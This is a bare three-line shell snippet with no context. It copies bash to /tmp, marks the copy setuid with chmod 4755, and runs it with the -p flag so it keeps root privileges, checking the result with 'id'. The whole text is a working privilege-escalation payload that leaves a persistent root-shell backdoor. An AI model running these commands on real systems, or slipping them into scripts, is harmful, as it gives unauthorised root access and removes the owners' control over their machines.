cp /bin/bash /tmp/rootbash
chmod 4755 /tmp/rootbash
/tmp/rootbash -p -c id
